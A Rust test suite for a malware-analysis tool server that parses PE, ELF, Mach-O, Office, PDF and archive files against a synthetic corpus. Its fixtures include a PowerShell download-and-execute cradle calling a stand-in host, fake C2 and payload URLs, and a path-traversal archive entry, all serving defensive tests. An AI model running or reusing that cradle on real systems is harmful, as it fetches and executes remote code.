//! Each tool on the self-built corpus, asserting the facts it must find — through the pure functions
//! and through the served registry (arguments, errors, paging, read_as, the manifest).

mod corpus;

use std::{path::Path, sync::Arc};

use maljan_analysis::{
    AnalysisConfig, archive, carve, document, elf, identify, iocs, macho, pe, registry,
};
use maljan_server::{ErrorCode, Roots, ToolServer};
use serde_json::{Map, Value, json};
use tokio_util::sync::CancellationToken;

/// The budget a tool gives a file of this size (the base allowance for `b""`), never cancelled.
fn budget_for(b: &[u8]) -> maljan_analysis::budget::Budget<'static> {
    maljan_analysis::budget::Budget::for_file(b.len(), &|| false)
}

struct Fixture {
    dir: tempfile::TempDir,
    server: Arc<ToolServer>,
}

impl Fixture {
    fn new(rules: Option<&str>) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let samples = dir.path().join("samples");
        std::fs::create_dir(&samples).unwrap();
        for (name, data) in [
            ("sample.exe", corpus::pe()),
            ("sample.o", corpus::elf()),
            ("sample.macho", corpus::macho()),
            ("macro.doc", corpus::ole_with_vba("Macros/", true)),
            ("invoice.docm", corpus::docm()),
            ("doc.pdf", corpus::pdf()),
            ("archive.zip", corpus::zip_archive()),
            ("archive.tar", corpus::tar_archive()),
            ("archive.tar.gz", corpus::gzip(&corpus::tar_archive(), "archive.tar")),
            ("note.gz", corpus::gzip(b"just a note", "note.txt")),
            ("iocs.txt", corpus::IOC_TEXT.as_bytes().to_vec()),
            ("dropper.bin", [b"junk junk".to_vec(), corpus::pe(), b"more".to_vec(), corpus::pdf()].concat()),
            ("script.ps1", b"$env:TEMP; Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x.example.com/a')".to_vec()),
            ("fake.7z", [b"7z\xBC\xAF\x27\x1C\x00\x04".to_vec(), vec![0; 40]].concat()),
        ] {
            std::fs::write(samples.join(name), data).unwrap();
        }
        let rules_dir = rules.map(|r| {
            let d = dir.path().join("rules");
            std::fs::create_dir(&d).unwrap();
            std::fs::write(d.join("test.yar"), r).unwrap();
            d
        });
        let config = AnalysisConfig {
            roots: Roots::new([&samples]).unwrap(),
            work_dir: maljan_analysis::WorkDir::private_under(&dir.path().join("work")).unwrap(),
            rules_dir,
            // Off, so the rules directory (or nothing) is all there is: tests/yara_builtin_rules.rs
            // covers the built-in set.
            builtin_rules: false,
        };
        let server = ToolServer::new("analysis", "test", registry(config));
        Self { dir, server }
    }

    fn path(&self, name: &str) -> String {
        self.dir
            .path()
            .join("samples")
            .join(name)
            .display()
            .to_string()
    }

    fn bytes(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.path(name)).unwrap()
    }

    async fn call(&self, tool: &str, args: Value) -> (Value, bool) {
        let Value::Object(map) = args else {
            panic!("arguments must be an object")
        };
        let out = self
            .server
            .call(tool, map, CancellationToken::new(), None)
            .await
            .expect("tool exists");
        (out.value, out.is_error)
    }

    async fn ok(&self, tool: &str, args: Value) -> Value {
        let (v, err) = self.call(tool, args).await;
        assert!(!err, "{tool} failed: {v}");
        v
    }

    async fn err(&self, tool: &str, args: Value) -> String {
        let (v, err) = self.call(tool, args).await;
        assert!(err, "{tool} should have failed: {v}");
        v["error"]["code"].as_str().unwrap().to_string()
    }
}

#[test]
fn identify_by_content() {
    let cases: [(Vec<u8>, &str, Option<&str>); 12] = [
        (corpus::pe(), "pe", Some("pe_info")),
        (corpus::elf(), "elf", Some("elf_info")),
        (corpus::macho(), "macho", Some("macho_info")),
        (
            corpus::ole_with_vba("Macros/", true),
            "ole2",
            Some("document_info"),
        ),
        (corpus::docm(), "ooxml", Some("document_info")),
        (corpus::pdf(), "pdf", Some("document_info")),
        (corpus::zip_archive(), "zip", Some("archive_list")),
        (corpus::tar_archive(), "tar", Some("archive_list")),
        (corpus::gzip(b"x", "x"), "gzip", Some("archive_list")),
        (
            b"7z\xBC\xAF\x27\x1C\x00\x04rest".to_vec(),
            "7z",
            Some("archive_list"),
        ),
        (
            b"Rar!\x1A\x07\x01\x00rest".to_vec(),
            "rar",
            Some("archive_list"),
        ),
        (
            corpus::IOC_TEXT.as_bytes().to_vec(),
            "text",
            Some("iocs_from_file"),
        ),
    ];
    for (bytes, kind, tool) in cases {
        let k = identify(&bytes);
        assert_eq!(k.kind, kind, "{}", k.description);
        assert_eq!(k.analysis_tool.as_deref(), tool);
    }
    let pe = identify(&corpus::pe());
    assert_eq!(pe.details["machine"], "x86-64");
    assert_eq!(pe.details["bits"], 64);
    assert_eq!(
        identify(&corpus::ole_with_vba("Macros/", true)).details["vba"],
        true
    );
    assert_eq!(identify(&corpus::docm()).extension, "docx");
    let ps = identify(
        b"$env:TEMP; Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')",
    );
    assert_eq!(
        (ps.kind.as_str(), ps.details["language"].as_str()),
        ("script", Some("PowerShell"))
    );
    assert_eq!(
        identify(b"#!/bin/sh\necho hi\n").details["language"],
        "Shell"
    );
    assert_eq!(identify(b"\x00\x01\x02\x03\xff\xfe\x80").kind, "data");
    assert_eq!(identify(b"").kind, "empty");
}

#[test]
fn pe_facts() {
    let info = pe::pe_info(
        &corpus::pe(),
        Default::default(),
        &budget_for(&corpus::pe()),
    )
    .unwrap();
    assert_eq!(info.machine, "x86-64");
    assert_eq!(info.bits, 64);
    assert!(!info.is_dll);
    assert_eq!(info.subsystem, "windows_cui");
    assert_eq!(info.entry_section.as_deref(), Some(".text"));
    assert_eq!(
        info.timestamps["coff"].utc.as_deref(),
        Some("2020-09-13T12:26:40Z")
    );
    assert_eq!(info.timestamps["debug"].value, corpus::PE_TIMESTAMP);
    assert_eq!(info.imphash.as_deref(), Some(corpus::pe_imphash().as_str()));
    let imports = info.imports.as_ref().unwrap();
    assert_eq!(imports[0].dll, "KERNEL32.dll");
    assert_eq!(imports[0].functions, vec!["CreateMutexA"]);
    assert_eq!(
        imports[1].functions,
        vec!["socket"],
        "ws2_32 ordinal 23 is named"
    );
    let exports = info.exports.as_ref().unwrap();
    assert_eq!(exports.functions[0].name.as_deref(), Some("RunMe"));
    let sections = info.sections.as_ref().unwrap();
    assert_eq!(
        sections.iter().map(|s| s.name.as_str()).collect::<Vec<_>>(),
        [".text", ".rdata", ".rsrc"]
    );
    assert!(sections[0].characteristics.contains(&"execute".to_string()));
    let res = &info.resources.as_ref().unwrap()[0];
    assert_eq!(
        (
            res.r#type.as_str(),
            res.name.as_str(),
            res.language,
            res.kind.as_str()
        ),
        ("RT_RCDATA", "101", 1033, "zip")
    );
    let overlay = info.overlay.as_ref().unwrap();
    assert_eq!((overlay.offset, overlay.kind.as_str()), (0xA00, "zip"));
    let pdb = info.pdb.as_ref().unwrap();
    assert_eq!(pdb.path, "C:\\build\\maljan\\evil.pdb");
    assert_eq!(pdb.age, 3);
    assert!(
        info.anomalies.iter().any(|a| a.contains("overlay")),
        "{:?}",
        info.anomalies
    );
    // Not a PE: unsupported_format, not a panic.
    let not_pe = pe::pe_info(
        &corpus::elf(),
        Default::default(),
        &budget_for(&corpus::elf()),
    )
    .unwrap_err();
    assert_eq!(
        not_pe.code,
        ErrorCode::UnsupportedFormat,
        "{}",
        not_pe.message
    );
}

#[test]
fn elf_and_macho_facts() {
    let e = elf::elf_info(&corpus::elf(), 100, &budget_for(&corpus::elf())).unwrap();
    assert_eq!(
        (e.bits, e.machine.as_str(), e.r#type.as_str()),
        (64, "x86-64", "relocatable")
    );
    assert!(
        e.sections
            .iter()
            .any(|s| s.name == ".text" && s.flags.contains('x'))
    );
    assert!(e.sections.iter().any(|s| s.name == ".rodata.c2"));
    let m = macho::macho_info(&corpus::macho(), 100, &budget_for(&corpus::macho())).unwrap();
    assert!(!m.universal);
    let a = &m.architectures[0];
    assert_eq!(
        (a.cpu.as_str(), a.bits, a.file_type.as_str()),
        ("x86-64", 64, "object")
    );
    assert!(
        a.sections.iter().any(|s| s.name == "__TEXT,__text"),
        "{:?}",
        a.sections
    );
}

#[test]
fn ole2_vba_macros() {
    let r = document::document_info(
        &corpus::ole_with_vba("Macros/", true),
        100,
        &budget_for(b""),
    )
    .unwrap();
    assert_eq!(r.format, "ole2");
    assert!(r.macros && r.auto_exec);
    let ole = r.ole.as_ref().unwrap();
    assert!(ole.streams.iter().any(|s| s.path == "/WordDocument"));
    let m = &ole.vba_modules[0];
    assert_eq!(m.name, "Module1");
    assert!(m.source.contains("Sub AutoOpen()"), "{}", m.source);
    assert_eq!(m.auto_exec, vec!["AutoOpen"]);
    assert!(
        m.suspicious.contains(&"CreateObject".to_string())
            && m.suspicious.contains(&"WScript.Shell".to_string())
    );
    assert!(
        r.indicators
            .iter()
            .any(|i| i.value == "http://macro.evil-domain.com/stage2.exe")
    );
}

#[test]
fn ooxml_parts_vba_and_external_relationships() {
    let r = document::document_info(&corpus::docm(), 100, &budget_for(b"")).unwrap();
    assert_eq!(r.format, "ooxml");
    let x = r.ooxml.as_ref().unwrap();
    assert!(x.has_vba_project && r.macros && r.auto_exec);
    assert!(x.remote_template);
    let targets: Vec<&str> = x
        .external_relationships
        .iter()
        .map(|r| r.target.as_str())
        .collect();
    assert!(
        targets.contains(&"http://template.evil-domain.com/t.dotm"),
        "{targets:?}"
    );
    assert!(
        targets.contains(&"https://phish.example.org/login?a=1&b=2"),
        "{targets:?}"
    );
    assert_eq!(x.embedded_objects, vec!["word/embeddings/oleObject1.bin"]);
    assert!(x.dde[0].starts_with("DDEAUTO"));
    assert_eq!(
        x.vba.as_ref().unwrap().vba_modules[0].auto_exec,
        vec!["AutoOpen"]
    );
    assert!(r.without.is_empty(), "{:?}", r.without);
}

#[test]
fn pdf_javascript_openaction_uris_embedded() {
    let r = document::document_info(&corpus::pdf(), 100, &budget_for(b"")).unwrap();
    assert_eq!(r.format, "pdf");
    let p = r.pdf.as_ref().unwrap();
    assert_eq!(p.pages, Some(1));
    assert_eq!(p.open_action.as_deref(), Some("javascript"));
    assert!(p.javascript[0].contains("exportDataObject"));
    assert_eq!(p.uris, vec!["http://pdf-landing.example.com/x"]);
    assert_eq!(p.embedded_files, vec!["invoice.exe"]);
    assert!(p.keywords["/OpenAction"] >= 1 && p.keywords["/EmbeddedFile"] >= 1);
    assert!(r.auto_exec && r.macros);
    // A truncated PDF still gets the raw keyword answer, and says what it lacks.
    let pdf = corpus::pdf();
    let r = document::document_info(&pdf[..pdf.len() / 2], 100, &budget_for(b"")).unwrap();
    assert!(!r.without.is_empty());
    assert!(r.pdf.unwrap().keywords["/JavaScript"] >= 1);
}

#[test]
fn archives() {
    let z = archive::list(
        &corpus::zip_archive(),
        100,
        &budget_for(&corpus::zip_archive()),
    )
    .unwrap();
    assert_eq!((z.format.as_str(), z.entry_count), ("zip", 3));
    assert_eq!(z.comment.as_deref(), Some("maljan test archive"));
    let by_name = |n: &str| {
        z.entries
            .iter()
            .find(|e| e.name == n)
            .unwrap()
            .flags
            .clone()
    };
    assert!(by_name("../../evil.sh").contains(&"path_traversal".to_string()));
    assert!(by_name("invoice.pdf.exe").contains(&"double_extension".to_string()));
    let t = archive::list(
        &corpus::tar_archive(),
        100,
        &budget_for(&corpus::tar_archive()),
    )
    .unwrap();
    assert_eq!(
        t.entries
            .iter()
            .map(|e| (e.name.as_str(), e.size))
            .collect::<Vec<_>>(),
        [("a/one.txt", 3), ("a/two.bin", 1000)]
    );
    let tgz = archive::list(
        &corpus::gzip(&corpus::tar_archive(), "a.tar"),
        100,
        &budget_for(b""),
    )
    .unwrap();
    assert_eq!((tgz.format.as_str(), tgz.entry_count), ("tar.gz", 2));
    assert_eq!(tgz.details["original_name"], "a.tar");
    let gz = archive::list(
        &corpus::gzip(b"just a note", "note.txt"),
        100,
        &budget_for(b""),
    )
    .unwrap();
    assert_eq!(
        (gz.entries[0].name.as_str(), gz.entries[0].size),
        ("note.txt", 11)
    );
    let seven = archive::list(
        &[b"7z\xBC\xAF\x27\x1C\x00\x04".to_vec(), vec![0; 40]].concat(),
        100,
        &budget_for(b""),
    )
    .unwrap();
    assert_eq!(seven.format, "7z");
    assert!(seven.without[0].contains("7z"));
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("drop.exe"), b"MZ not much of a program").unwrap();
    let real_7z = sevenz_rust2::compress(dir.path(), std::io::Cursor::new(Vec::new()))
        .unwrap()
        .into_inner();
    let seven = archive::list(&real_7z, 100, &budget_for(&real_7z)).unwrap();
    assert_eq!(
        (seven.entries[0].name.as_str(), seven.entries[0].size),
        ("drop.exe", 24),
        "{:?}",
        seven.without
    );
    assert!(seven.entries[0].flags.iter().any(|f| f == "executable"));
    let not_archive =
        archive::list(b"plain text, not an archive", 10, &budget_for(b"")).unwrap_err();
    assert_eq!(
        not_archive.code,
        ErrorCode::UnsupportedFormat,
        "{}",
        not_archive.message
    );
}

#[test]
fn carving_finds_embedded_payloads() {
    let pe = corpus::pe();
    let blob = [
        b"junk junk".to_vec(),
        pe.clone(),
        b"more".to_vec(),
        corpus::pdf(),
    ]
    .concat();
    let found = carve::carve(&blob, 100, &|| false);
    let kinds: Vec<(&str, u64)> = found.iter().map(|p| (p.kind.as_str(), p.offset)).collect();
    assert!(kinds.contains(&("pe", 9)), "{kinds:?}");
    let pe_hit = found.iter().find(|p| p.offset == 9).unwrap();
    assert_eq!(
        pe_hit.size,
        Some(0xA00),
        "sized from the section table (overlay not included)"
    );
    assert!(
        kinds
            .iter()
            .any(|(k, o)| *k == "pdf" && *o == (9 + pe.len() + 4) as u64),
        "{kinds:?}"
    );
    assert!(
        kinds.iter().any(|(k, _)| *k == "zip"),
        "the resource / overlay zips: {kinds:?}"
    );
}

#[test]
fn iocs_from_text_finds_defanged_indicators() {
    let found = iocs::extract(corpus::IOC_TEXT, iocs::KINDS);
    let has = |kind: &str, v: &str| found.iter().any(|i| i.kind == kind && i.value == v);
    assert!(
        has("url", "https://c2.bad-actor.ru/gate.php?id=7"),
        "{found:#?}"
    );
    assert!(has("url", "http://plain.example.com/x"));
    assert!(has("domain", "c2.bad-actor.ru"));
    assert!(has("ipv4", "185.220.101.45") && has("ipv4", "10.0.0.1"));
    assert!(has("ipv6", "2001:db8::dead:beef"));
    assert!(has("email", "ops@bad-actor.ru") && has("email", "admin@example.org"));
    assert!(has("md5", "44d88612fea8a8f36de82e1278abb02f"));
    assert!(has("sha1", "3395856ce81f2b7382dee72602f798b642f14140"));
    assert!(has(
        "sha256",
        "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    ));
    assert!(has(
        "registry",
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater"
    ));
    assert!(
        has("filepath", "C:\\Users\\Public\\Libraries\\svc.exe")
            && has("filepath", "/tmp/.cache/kworker")
    );
    assert!(
        found
            .iter()
            .find(|i| i.value == "185.220.101.45")
            .unwrap()
            .defanged
    );
    assert!(
        !found
            .iter()
            .find(|i| i.value == "10.0.0.1")
            .unwrap()
            .defanged
    );
}

#[tokio::test]
async fn served_tools_answer_with_their_facts() {
    let f = Fixture::new(None);
    let v = f
        .ok("identify_file", json!({"path": f.path("sample.exe")}))
        .await;
    assert_eq!(
        (v["kind"].as_str(), v["analysis_tool"].as_str()),
        (Some("pe"), Some("pe_info"))
    );
    let h = f.ok("hashes", json!({"path": f.path("iocs.txt")})).await;
    assert_eq!(
        h["sha256"],
        maljan_analysis::hashes::sha256_hex(corpus::IOC_TEXT.as_bytes())
    );
    assert!(h["tlsh"].as_str().unwrap().starts_with("T1"));
    assert!(h["ssdeep"].as_str().unwrap().contains(':'));
    let p = f
        .ok(
            "pe_info",
            json!({"path": f.path("sample.exe"), "resources": false}),
        )
        .await;
    assert_eq!(p["imphash"], corpus::pe_imphash());
    assert!(p["resources"].is_null());
    let s = f
        .ok(
            "strings",
            json!({"path": f.path("sample.exe"), "pattern": "\"CurrentVersion\"", "min_len": 8}),
        )
        .await;
    assert_eq!(s["read_as"]["pattern"], "CurrentVersion");
    assert_eq!(s["strings"][0]["encoding"], "utf16le");
    assert_eq!(s["strings"][0]["offset"], 0x260);
    let i = f
        .ok(
            "iocs_from_file",
            json!({"path": f.path("sample.exe"), "kinds": ["url"]}),
        )
        .await;
    assert_eq!(
        i["indicators"][0]["value"],
        "http://evil.example.com/payload.bin"
    );
    let i = f
        .ok(
            "iocs_from_text",
            json!({"text": "see hxxp://x[.]example[.]com/a", "kinds": ["url"]}),
        )
        .await;
    assert_eq!(i["indicators"][0]["value"], "http://x.example.com/a");
    let e = f
        .ok(
            "entropy",
            json!({"path": f.path("sample.exe"), "window": 512}),
        )
        .await;
    assert_eq!(e["sections"].as_array().unwrap().len(), 3);
    assert_eq!(e["total"], 6);
    for (tool, file, key) in [
        ("elf_info", "sample.o", "machine"),
        ("macho_info", "sample.macho", "architectures"),
        ("archive_list", "archive.tar.gz", "entries"),
        ("document_info", "invoice.docm", "ooxml"),
        ("document_info", "doc.pdf", "pdf"),
        ("carve_payloads", "dropper.bin", "payloads"),
    ] {
        let v = f.ok(tool, json!({"path": f.path(file)})).await;
        assert!(!v[key].is_null(), "{tool} on {file}: {v}");
    }
    let x = f
        .ok(
            "search",
            json!({"path": f.path("sample.exe"), "patterns": ["'MaljanTestMutex'"]}),
        )
        .await;
    assert_eq!(x["read_as"]["patterns"], json!(["MaljanTestMutex"]));
    assert_eq!(x["matches"][0]["offset"], 0x247);
    let x = f
        .ok(
            "search",
            json!({"path": f.path("sample.exe"), "patterns": ["52 53 44 53"], "mode": "hex"}),
        )
        .await;
    assert_eq!(x["total"], 1);
}

#[tokio::test]
async fn paging_and_errors() {
    let f = Fixture::new(None);
    let page1 = f
        .ok(
            "strings",
            json!({"path": f.path("sample.exe"), "limit": 2, "min_len": 4}),
        )
        .await;
    let total = page1["total"].as_u64().unwrap();
    assert!(total > 2);
    assert_eq!(page1["next_offset"], 2);
    let last = f
        .ok(
            "strings",
            json!({"path": f.path("sample.exe"), "limit": 2, "offset": total - 1, "min_len": 4}),
        )
        .await;
    assert_eq!(
        (last["returned"].as_u64(), last["next_offset"].is_null()),
        (Some(1), true)
    );
    assert_eq!(
        f.err("pe_info", json!({"path": "/etc/passwd"})).await,
        "path_outside_roots"
    );
    assert_eq!(
        f.err("pe_info", json!({"path": f.path("missing.exe")}))
            .await,
        "no_such_file"
    );
    assert_eq!(
        f.err("pe_info", json!({"path": f.path("iocs.txt")})).await,
        "unsupported_format"
    );
    assert_eq!(
        f.err("document_info", json!({"path": f.path("sample.exe")}))
            .await,
        "unsupported_format"
    );
    assert_eq!(
        f.err("strings", json!({"path": f.path("sample.exe"), "bogus": 1}))
            .await,
        "bad_argument"
    );
    assert_eq!(
        f.err("iocs_from_text", json!({"text": "x", "kinds": ["nope"]}))
            .await,
        "bad_argument"
    );
    assert_eq!(
        f.err(
            "search",
            json!({"path": f.path("sample.exe"), "patterns": ["zz"], "mode": "hex"})
        )
        .await,
        "bad_argument"
    );
    assert_eq!(
        f.err(
            "hashes",
            json!({"path": f.dir.path().join("samples").display().to_string()})
        )
        .await,
        "bad_argument"
    );
    // carved_path outside a carved/<sha256>/ directory is refused.
    assert_eq!(
        f.err(
            "hashes",
            json!({"path": f.path("sample.exe"), "carved_path": f.path("note.gz")})
        )
        .await,
        "bad_argument"
    );
}

#[tokio::test]
async fn carve_extract_then_read_as_carved_path() {
    let f = Fixture::new(None);
    let v = f
        .ok(
            "carve_payloads",
            json!({"path": f.path("dropper.bin"), "extract": true}),
        )
        .await;
    let pe = v["payloads"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["kind"] == "pe")
        .unwrap()
        .clone();
    let carved = pe["carved_path"].as_str().unwrap().to_string();
    assert!(carved.contains("/carved/"));
    // In the server's work directory, never beside the sample.
    let work = f.dir.path().join("work").canonicalize().unwrap();
    assert!(Path::new(&carved).starts_with(&work), "{carved}");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&carved).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let h = f
        .ok(
            "hashes",
            json!({"path": f.path("dropper.bin"), "carved_path": carved}),
        )
        .await;
    assert_eq!(h["sha256"], pe["sha256"]);
    assert_eq!(
        h["read_path"].as_str().unwrap(),
        Path::new(&carved)
            .canonicalize()
            .unwrap()
            .display()
            .to_string()
    );
    let p = f.ok("pe_info", json!({"carved_path": carved})).await;
    assert_eq!(p["imphash"], corpus::pe_imphash());
    // The carved file belongs to dropper.bin, not to another sample.
    assert_eq!(
        f.err(
            "hashes",
            json!({"path": f.path("sample.exe"), "carved_path": carved})
        )
        .await,
        "bad_argument"
    );
    let _ = f.bytes("dropper.bin");
}

#[tokio::test]
async fn manifest_says_what_is_unavailable_and_why() {
    let f = Fixture::new(None);
    let m = f.server.manifest();
    let yara = m.tool("yara_scan").unwrap();
    assert!(!yara.available);
    assert!(
        yara.reason.as_deref().unwrap().contains("rules"),
        "{:?}",
        yara.reason
    );
    assert!(!yara.remediation.as_deref().unwrap_or("").is_empty());
    assert_eq!(yara.timeout_s, Some(60.0));
    assert_eq!(m.tool("capa").unwrap().timeout_s, Some(300.0));
    assert_eq!(m.tool("floss").unwrap().timeout_s, Some(600.0));
    assert_eq!(
        f.err("yara_scan", json!({"path": f.path("sample.exe")}))
            .await,
        "missing_dependency"
    );
    for t in [
        "identify_file",
        "hashes",
        "strings",
        "pe_info",
        "document_info",
        "carve_payloads",
        "search",
    ] {
        let t = m.tool(t).unwrap();
        assert!(t.available && t.timeout_s.is_some(), "{t:?}");
    }
    for ext in ["capa", "floss"] {
        let t = m.tool(ext).unwrap();
        if maljan_server::manifest::find_on_path(ext).is_none() {
            assert!(!t.available);
            assert!(t.remediation.as_deref().unwrap().contains("install"));
        }
    }
}

#[cfg(feature = "yara")]
#[tokio::test]
async fn yara_scan_with_a_rules_directory() {
    let rule = r#"rule maljan_mutex : test { meta: author = "maljan" score = 7 strings: $m = "MaljanTestMutex" condition: $m }
                  rule never { condition: false }"#;
    let f = Fixture::new(Some(rule));
    assert!(f.server.manifest().tool("yara_scan").unwrap().available);
    let v = f
        .ok("yara_scan", json!({"path": f.path("sample.exe")}))
        .await;
    assert_eq!(v["match_count"], 1);
    assert_eq!(v["matches"][0]["rule"], "maljan_mutex");
    assert_eq!(v["matches"][0]["tags"], json!(["test"]));
    assert_eq!(v["matches"][0]["metadata"]["score"], 7);
    assert_eq!(v["matches"][0]["strings"][0]["offset"], 0x247);
    let t = f
        .ok(
            "yara_scan",
            json!({"text": "nothing to see", "timeout_s": 5}),
        )
        .await;
    assert_eq!(t["match_count"], 0);
    assert_eq!(
        f.err(
            "yara_scan",
            json!({"path": f.path("sample.exe"), "ruleset": "../x"})
        )
        .await,
        "bad_argument"
    );
}

#[test]
fn schemas_match_the_reference_names() {
    let dir = tempfile::tempdir().unwrap();
    let r = registry(AnalysisConfig {
        roots: Roots::new([dir.path()]).unwrap(),
        work_dir: maljan_analysis::WorkDir::private_under(dir.path()).unwrap(),
        rules_dir: None,
        builtin_rules: true,
    });
    let props = |tool: &str| -> Map<String, Value> {
        r.get(tool).unwrap().input_schema["properties"]
            .as_object()
            .unwrap()
            .clone()
    };
    let expect: &[(&str, &[&str])] = &[
        ("identify_file", &["path", "carved_path"]),
        ("hashes", &["path", "carved_path"]),
        (
            "strings",
            &[
                "path",
                "carved_path",
                "min_len",
                "encodings",
                "limit",
                "offset",
                "pattern",
            ],
        ),
        ("iocs_from_text", &["text", "kinds"]),
        ("iocs_from_file", &["path", "carved_path", "kinds"]),
        (
            "pe_info",
            &[
                "path",
                "carved_path",
                "sections",
                "imports",
                "exports",
                "resources",
                "overlay",
                "pdb",
            ],
        ),
        ("elf_info", &["path", "carved_path"]),
        ("macho_info", &["path", "carved_path"]),
        ("carve_payloads", &["path", "carved_path"]),
        ("archive_list", &["path", "carved_path", "limit"]),
        ("document_info", &["path", "carved_path"]),
        (
            "yara_scan",
            &["path", "carved_path", "text", "ruleset", "timeout_s"],
        ),
        ("capa", &["path", "carved_path", "timeout_s", "backend"]),
        (
            "floss",
            &[
                "path",
                "carved_path",
                "min_len",
                "kinds",
                "limit",
                "offset",
                "pattern",
                "timeout_s",
            ],
        ),
    ];
    for (tool, names) in expect {
        let p = props(tool);
        for n in *names {
            assert!(p.contains_key(*n), "{tool} lacks argument {n}");
        }
    }
    let s = props("strings");
    assert_eq!(
        (
            s["min_len"]["default"].clone(),
            s["limit"]["default"].clone()
        ),
        (json!(6), json!(2000))
    );
    assert_eq!(s["encodings"]["default"], json!(["ascii", "utf16le"]));
    let y = props("yara_scan");
    assert_eq!(
        (
            y["ruleset"]["default"].clone(),
            y["timeout_s"]["default"].clone()
        ),
        (json!("default"), json!(60))
    );
    assert_eq!(props("capa")["timeout_s"]["default"], json!(300));
    let fl = props("floss");
    assert_eq!(
        (
            fl["min_len"]["default"].clone(),
            fl["limit"]["default"].clone(),
            fl["timeout_s"]["default"].clone()
        ),
        (json!(4), json!(150), json!(600))
    );
    assert_eq!(props("archive_list")["limit"]["default"], json!(500));
}
